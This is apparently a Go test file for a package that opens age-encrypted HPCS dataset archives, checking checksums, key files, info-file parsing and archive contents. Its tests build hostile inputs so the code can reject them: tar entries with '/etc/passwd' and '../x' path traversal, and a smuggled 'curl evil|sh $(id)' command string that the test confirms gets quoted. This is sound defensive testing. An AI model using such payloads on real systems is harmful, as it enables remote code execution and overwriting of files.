package hpcs

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"filippo.io/age"

	"github.com/sealbatch/sealbatch/internal/fault"
	"github.com/sealbatch/sealbatch/internal/transfer"
	"github.com/sealbatch/sealbatch/volume"
)

// vectors returns a directory with what testdata/make.py made, the key readable by its owner alone.
func vectors(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := errors.Join(os.CopyFS(dir, os.DirFS("testdata")), os.Chmod(filepath.Join(dir, "keys"), 0o600)); err != nil {
		t.Fatal(err)
	}
	return dir
}

// tree collects what is emitted: a line for each entry.
type tree struct {
	paths []string
	lines []string
}

func (c *tree) emit(e volume.Entry) (uint32, error) {
	at := ""
	if len(c.paths) > 0 {
		at = c.paths[e.Parent] + "/" + e.Name
	}
	line := fmt.Sprintf("%s %s", at, e.Attr.Type)
	switch {
	case e.Open != nil:
		r, err := e.Open()
		if err != nil {
			return 0, err
		}
		b, err := io.ReadAll(r)
		if err = errors.Join(err, r.Close()); err != nil {
			return 0, err
		}
		line += fmt.Sprintf(" %d %.10q", len(b), b)
	case e.Attr.Type == volume.Symlink:
		line += " " + e.Target
	}
	c.paths, c.lines = append(c.paths, at), append(c.lines, line)
	return uint32(len(c.paths) - 1), nil
}

func walk(t *testing.T, in volume.Source) ([]string, error) {
	var c tree
	err := in.Walk(t.Context(), c.emit)
	slices.Sort(c.lines)
	return c.lines, err
}

// TestVectors: datasets that HPCS's steps made, with and without a name.
func TestVectors(t *testing.T) {
	t.Parallel()
	dir := vectors(t)
	want := []string{
		" directory", "/image.txt file 10 \"a picture\\n\"", "/link symbolic link image.txt", "/sub directory",
		"/sub/empty file 0 \"\"", "/sub/large file 220000 \"0123456789\"",
	}
	for file, top := range map[string]string{"encrypted_jp2a_input.tgz": "jp2a_input", "encrypted_.tgz": ""} {
		for _, name := range []string{file, file + InfoSuffix} {
			named := Named{Path: filepath.Join(dir, name), KeyFile: filepath.Join(dir, "keys")}
			a, err := named.Open(transfer.Local{}, slog.New(slog.DiscardHandler))
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			if a.Info == nil || a.Path != filepath.Join(dir, file) {
				t.Errorf("%s: %+v", name, a)
			}
			got, err := a.Top(t.Context())
			if err != nil || got != top {
				t.Errorf("%s: top %q, %v", name, got, err)
			}
			lines, err := walk(t, Dataset{Artefact: a, Top: got})
			if err != nil || !slices.Equal(lines, want) {
				t.Errorf("%s: %q, %v", name, lines, err)
			}
		}
	}
}

// site is another machine's file system, below a directory of this one.
type site struct {
	transfer.Local
	root string
}

func (s site) Open(name string) (transfer.File, error) { return s.Local.Open(s.root + name) }

// TestAtTheSite: the info file names the place of the file.
func TestAtTheSite(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	if err := os.CopyFS(root+"/scratch/project_1", os.DirFS("testdata")); err != nil {
		t.Fatal(err)
	}
	dir := vectors(t)
	if err := os.Remove(dir + "/encrypted_jp2a_input.tgz"); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"/scratch/project_1/encrypted_jp2a_input.tgz" + InfoSuffix, dir + "/encrypted_jp2a_input.tgz" + InfoSuffix} {
		a, err := Named{name, dir + "/keys"}.Open(site{root: root}, slog.New(slog.DiscardHandler))
		if err != nil || a.Local || a.String() != "site:/scratch/project_1/encrypted_jp2a_input.tgz" || a.Files() != nil {
			t.Fatalf("%s: %+v, %v", name, a, err)
		}
		if lines, err := walk(t, Dataset{Artefact: a, Top: "jp2a_input"}); err != nil || len(lines) != 6 {
			t.Errorf("%s: %q, %v", name, lines, err)
		}
	}
}

// packed is an archive of these members.
func packed(t *testing.T, members ...tar.Header) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, h := range members {
		h.Mode = 0o644
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// encrypted writes a file of HPCS's with plain in it and its info file, whose checksum is of what shipped makes of the file, and
// returns how it is named. What alter makes of the file is written.
func encrypted(t *testing.T, plain []byte, shipped, alter func(file []byte) []byte) Named {
	t.Helper()
	dir := t.TempDir()
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	w, err := age.Encrypt(&b, id.Recipient())
	if err == nil {
		_, err = w.Write(plain)
	}
	if err = errors.Join(err, w.Close()); err != nil {
		t.Fatal(err)
	}
	sum := sha512.Sum512(shipped(b.Bytes()))
	info := fmt.Sprintf("info:\n  path_at_rest: /scratch/x\n  checksum: %s\n", hex.EncodeToString(sum[:]))
	err = errors.Join(os.WriteFile(dir+"/x", alter(b.Bytes()), 0o600), os.WriteFile(dir+"/x"+InfoSuffix, []byte(info), 0o600),
		os.WriteFile(dir+"/key", []byte(id.String()+"\n"), 0o600))
	if err != nil {
		t.Fatal(err)
	}
	return Named{Path: dir + "/x", KeyFile: dir + "/key"}
}

func whole(b []byte) []byte { return b }
func cut(b []byte) []byte   { return b[:len(b)-1] }

// TestBadDatasets: nothing of them is a volume, and why is said.
func TestBadDatasets(t *testing.T) {
	t.Parallel()
	noise := bytes.Repeat([]byte("no archive"), 20000)
	good := packed(t, tar.Header{Typeflag: tar.TypeDir, Name: "d/"}, tar.Header{Typeflag: tar.TypeReg, Name: "d/f"})
	for want, c := range map[string]struct {
		plain          []byte
		shipped, alter func([]byte) []byte
	}{
		"holds no tar.gz":               {noise, whole, whole},
		"damaged or cut off":            {good, cut, cut},
		"SHA-512 is not the one":        {good, cut, whole},
		`"/etc/passwd" has an absolute`: {packed(t, tar.Header{Typeflag: tar.TypeReg, Name: "/etc/passwd"}), whole, whole},
		`"../x" leads out`:              {packed(t, tar.Header{Typeflag: tar.TypeReg, Name: "../x"}), whole, whole},
		"is a device":                   {packed(t, tar.Header{Typeflag: tar.TypeBlock, Name: "sda"}), whole, whole},
		"is a hard link to":             {packed(t, tar.Header{Typeflag: tar.TypeLink, Name: "l", Linkname: "../x"}), whole, whole},
	} {
		a, err := encrypted(t, c.plain, c.shipped, c.alter).Open(transfer.Local{}, slog.New(slog.DiscardHandler))
		if err == nil {
			var top string
			if top, err = a.Top(t.Context()); err == nil {
				_, err = walk(t, Dataset{Artefact: a, Top: top})
			}
		}
		if err == nil || !strings.Contains(err.Error(), want) || fault.ClassOf(err) != fault.Integrity || fault.Hint(err) == "" {
			t.Errorf("%s: %v (%v)", want, err, fault.ClassOf(err))
		}
	}
}

// TestImage: one file, of which the end is compared, too.
func TestImage(t *testing.T) {
	t.Parallel()
	plain := bytes.Repeat([]byte("0123456789abcdef"), 20000)
	for _, c := range []struct {
		want  string
		named Named
	}{
		{"", encrypted(t, plain, whole, whole)},
		{"SHA-512 is not the one", encrypted(t, plain, cut, whole)},
	} {
		a, err := c.named.Open(transfer.Local{}, slog.New(slog.DiscardHandler))
		if err != nil || a.Plain != int64(len(plain)) {
			t.Fatalf("%+v, %v", a, err)
		}
		in := Image{Artefact: a, FileName: "image.sif"}
		lines, err := walk(t, in)
		if c.want == "" && (err != nil || len(lines) != 2 || lines[1] != `/image.sif file 320000 "0123456789"`) {
			t.Errorf("%q, %v", lines, err)
		}
		if c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%v instead of %q", err, c.want)
		}
		if u, f, err := in.Scan(t.Context()); err != nil || u.PlainBytes != int64(len(plain)) || f == (volume.Digest{}) {
			t.Errorf("%+v, %v, %v", u, f, err)
		}
	}
}

// TestKeys: a key is a secret file with one age key, and opens its own file alone.
func TestKeys(t *testing.T) {
	t.Parallel()
	named, other := encrypted(t, []byte("x"), whole, whole), encrypted(t, []byte("y"), whole, whole)
	write := func(name, content string, mode os.FileMode) string {
		file := filepath.Join(t.TempDir(), name)
		if err := errors.Join(os.WriteFile(file, []byte(content), 0o600), os.Chmod(file, mode)); err != nil {
			t.Fatal(err)
		}
		return file
	}
	secret, err := os.ReadFile("testdata/keys")
	if err != nil {
		t.Fatal(err)
	}
	for file, want := range map[string]string{
		"": "no key that opens it is named", other.KeyFile: "the key does not open it", "/nowhere/key": "no such file",
		write("open", string(secret), 0o644): "by everybody", write("two", string(secret)+"\n"+string(secret), 0o600): "not a key of HPCS's",
		write("none", "AGE-SECRET-KEY-1QQQ\n", 0o600): "not a key of HPCS's",
	} {
		_, err := Named{named.Path, file}.Open(transfer.Local{}, slog.New(slog.DiscardHandler))
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "AGE-SECRET-KEY-1QQQ") {
			t.Errorf("%s: %v instead of %q", file, err, want)
		}
	}
}

// TestHintKey: what an info file says, for which nobody vouches, is no command of its own in a hint that people paste.
func TestHintKey(t *testing.T) {
	t.Parallel()
	if got := HintKey("x; curl evil|sh $(id)"); !strings.Contains(got, "-field=key 'x; curl evil|sh $(id)' >FILE") {
		t.Error(got)
	}
}

// TestParseInfo: what HPCS writes, and nothing else.
func TestParseInfo(t *testing.T) {
	t.Parallel()
	sum := strings.Repeat("ab", sha512.Size)
	in, err := ParseInfo([]byte("info:\n  path_at_rest: /scratch//x\n  checksum: " + sum + "\n"))
	if err != nil || in.PathAtRest != "/scratch/x" || in.Checksum[63] != 0xab {
		t.Errorf("%+v, %v", in, err)
	}
	for _, bad := range []string{
		"", "info:\n  path_at_rest: x\n  checksum: " + sum, "info:\n  path_at_rest: /x\n", "info:\n  path_at_rest: /x\n  checksum: abcd\n",
		"info:\n  path_at_rest: /x\n  checksum: " + sum + "\n  format: sealbatch-info/1\n", "info: [", strings.Repeat("#", maxInfo+1),
		"info:\n  path_at_rest: /x\n  checksum: sha256:" + sum,
	} {
		if in, err := ParseInfo([]byte(bad)); !errors.Is(err, ErrInfo) {
			t.Errorf("%.80q: %+v, %v", bad, in, err)
		}
	}
}

func FuzzParseInfo(f *testing.F) {
	for _, name := range []string{"encrypted_.tgz", "encrypted_jp2a_input.tgz"} {
		b, err := os.ReadFile("testdata/" + name + InfoSuffix)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if in, err := ParseInfo(b); err == nil && !filepath.IsAbs(in.PathAtRest) {
			t.Errorf("%+v", in)
		}
	})
}

// TestName: what was packed, by the names that HPCS gives.
func TestName(t *testing.T) {
	t.Parallel()
	for file, want := range map[string]string{
		"/a/encrypted_jp2a_input.tgz": "jp2a_input", "encrypted_prepared_jp2a.sif": "jp2a", "x": "x", "encrypted_.tgz": "",
	} {
		if got := Name(file); got != want {
			t.Errorf("%s: %q", file, got)
		}
	}
}
